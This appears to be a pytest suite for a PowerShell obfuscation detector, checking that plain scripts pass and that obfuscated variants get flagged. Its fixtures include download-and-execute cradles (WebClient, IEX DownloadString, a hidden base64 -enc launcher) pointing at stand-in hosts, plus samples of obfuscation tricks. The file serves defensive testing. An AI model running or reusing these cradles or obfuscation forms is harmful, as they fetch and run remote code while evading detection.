"""The shipped obfuscation model: plain scripts (benign or malicious-looking) are not flagged,
their obfuscated versions are; garbage never raises; held out sources on the real data."""

import random
import time
from pathlib import Path

import pytest

from threatscope.powershell import features as F
from threatscope.powershell.classify import Model, classify, classify_many, default_model
from threatscope.powershell.obfuscate import obfuscate

# Hand-written plain scripts: admin chores, and one plain download cradle (malicious-looking, not
# obfuscated: the model must say "plain").
PLAIN = {
    "cleanup": (
        "# Remove log files older than 30 days\n"
        "param([string]$Path = 'C:\\Logs', [int]$Days = 30)\n"
        "$limit = (Get-Date).AddDays(-$Days)\n"
        "Get-ChildItem -Path $Path -Filter *.log -Recurse |\n"
        "    Where-Object { $_.LastWriteTime -lt $limit } |\n"
        "    Remove-Item -Force -Verbose\n"
    ),
    "services": (
        "$services = Get-Service | Where-Object { $_.Status -eq 'Stopped' -and "
        "$_.StartType -eq 'Automatic' }\n"
        "foreach ($svc in $services) {\n"
        "    Write-Host \"Starting $($svc.Name)\"\n"
        "    Start-Service -Name $svc.Name -ErrorAction SilentlyContinue\n"
        "}\n"
    ),
    "report": (
        "function Get-DiskReport {\n"
        "    [CmdletBinding()]\n"
        "    param([string[]]$ComputerName = $env:COMPUTERNAME)\n"
        "    foreach ($c in $ComputerName) {\n"
        "        Get-CimInstance -ClassName Win32_LogicalDisk -ComputerName $c |\n"
        "            Select-Object DeviceID, @{ Name = 'FreeGB'; Expression = "
        "{ [math]::Round($_.FreeSpace / 1GB, 1) } }\n"
        "    }\n"
        "}\n"
        "Get-DiskReport | Export-Csv -Path .\\disks.csv -NoTypeInformation\n"
    ),
    "cradle": (
        "$wc = New-Object System.Net.WebClient\n"
        "$wc.DownloadFile('http://203.0.113.7/update.exe', \"$env:TEMP\\update.exe\")\n"
        "Start-Process -FilePath \"$env:TEMP\\update.exe\"\n"
    ),
    "cradle_iex": "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')",
}


@pytest.mark.parametrize("name", sorted(PLAIN))
def test_plain_scripts_are_not_obfuscated(name):
    r = classify(PLAIN[name])
    assert r["obfuscated"] is False, (name, r["score"])
    assert 0.0 <= r["score"] < 0.5


@pytest.mark.parametrize("family", ["TOKEN", "STRING", "ENCODING", "COMPRESS", "LAUNCHER"])
def test_obfuscated_versions_are_flagged(family):
    missed = []
    for name, text in sorted(PLAIN.items()):
        for seed in range(3):
            obf, applied = obfuscate(text, random.Random(seed), [family])
            assert applied == [family]
            if not classify(obf)["obfuscated"]:
                missed.append((name, seed))
    # TOKEN is the mildest family (a few ticks and case flips); the others are never missed
    assert len(missed) <= (2 if family == "TOKEN" else 0), missed


def test_layered_obfuscation_of_benign_and_hand_written_forms_are_flagged():
    for seed in range(10):
        obf, _ = obfuscate(PLAIN["services"], random.Random(seed), layers=2)
        assert classify(obf)["obfuscated"], obf[:200]
    hand = [
        "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcA"
        "ZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8A"
        "MQAwAC4AMAAuADAALgA1AC8AYQAuAHAAcwAxACcAKQA=",
        "&( $ShellId[1]+$ShellId[13]+'x') ((\"{2}{0}{1}\" -f 'ost','  hi','Write-H'))",
        "Inv`oKe-EX`pRes`SiOn ('W'+'ri'+'te'+'-H'+'o'+'st'+' h'+'i')",
        "$k=[char[]](87,114,105,116,101,45,72,111,115,116,32,104,105)-join'';iex $k",
    ]
    for h in hand:
        assert classify(h)["obfuscated"], h


def test_garbage_binary_and_huge_input_never_raise_and_stay_bounded():
    rng = random.Random(0)
    junk = [b"", "", b"\x00\xff\xfe" * 1000, bytes(rng.randrange(256) for _ in range(5000)),
            "\ud800 lone surrogate", "`" * 10000, "'" * 9999, "${" * 5000, "\u2018" * 3000,
            bytearray(b"MZ\x90\x00")]
    for j in junk:
        r = classify(j)
        assert isinstance(r["obfuscated"], bool) and 0.0 <= r["score"] <= 1.0
    huge = "Write-Host 'x'\n" * 4_000_000  # 60 MB: read up to features.MAX_CHARS only
    t = time.perf_counter()
    r = classify(huge)
    assert time.perf_counter() - t < 5
    assert r["features"]["log_len"] <= F.math.log1p(F.MAX_CHARS + 1)  # head + "\n" + tail
    assert classify(None)["score"] >= 0  # type: ignore[arg-type]


def test_batch_and_technique_hook():
    texts = [PLAIN["cleanup"], "iex ('Wri'+'te-H'+'ost hi')"]
    rs = classify_many(texts)
    assert [r["obfuscated"] for r in rs] == [classify(t)["obfuscated"] for t in texts]
    f = F.extract("Get-Date", techniques={"concat", "EncodedCommand", "char-codes",
                                          "no-such-technique"})
    assert f["tech_concat"] == f["tech_encodedcommand"] == f["tech_char_codes"] == 1.0
    assert sum(f[k] for k in f if k.startswith("tech_")) == 3.0
    # the shipped model works without techniques; a model using them is a JSON away
    r = classify(PLAIN["cleanup"], techniques={"concat"})
    assert r["features"]["tech_concat"] == 1.0
    doc = {"kind": "logistic-regression", "features": ["tech_concat"], "mean": [0.0],
           "scale": [1.0], "weights": [8.0], "bias": -4.0}
    m = Model(doc)
    assert classify("x", {"concat"}, model=m)["obfuscated"]
    assert not classify("x", None, model=m)["obfuscated"]


def test_features_have_the_declared_names_and_are_finite():
    f = F.extract(PLAIN["report"])
    assert list(f) == list(F.FEATURE_NAMES)
    assert all(v == v and abs(v) < 1e6 for v in f.values())
    assert default_model().names == list(F.FEATURE_NAMES)


DATA = Path(__file__).resolve().parents[2] / ".." / "shared" / "data" / "powershell"


@pytest.mark.slow
@pytest.mark.skipif(not (DATA / "manifest.csv").exists(), reason="../shared/data/powershell absent")
def test_held_out_sources_on_the_real_data():
    pytest.importorskip("numpy")
    from threatscope.powershell import train as T

    samples = T.build_dataset(DATA, seed=3, limit=60)
    pred, _ = T.cross_source(samples, seed=3)  # as analyse gives it
    scripts = [(s.label, p) for s, p in zip(samples, pred, strict=True) if s.kind == "script"]
    cmds = [(s.label, p) for s, p in zip(samples, pred, strict=True) if s.kind == "cmdline"]
    _, _, f1_scripts, *_ = T.prf(scripts)
    _, _, f1_cmds, *_ = T.prf(cmds)
    assert f1_scripts >= 0.92, f1_scripts
    assert f1_cmds >= 0.97, f1_cmds


def test_analyse_gives_the_deobfuscator_its_budget():
    # one text, two budgets: the whole layers within a large one, a cut reported within none
    from threatscope.powershell.analysis import analyse

    text = "iex (" * 2000 + "'Write-Host hi'" + ")" * 2000
    cut = analyse(text, budget_ms=0)
    assert cut["truncated"] and cut["reason"] == "time budget"
    import base64

    encoded = base64.b64encode("iex 'hi'".encode("utf-16-le")).decode()
    whole = analyse("powershell -enc " + encoded, budget_ms=10_000)
    assert not whole["truncated"] and whole["final"] == "hi" and "encodedcommand" in whole["techniques"]
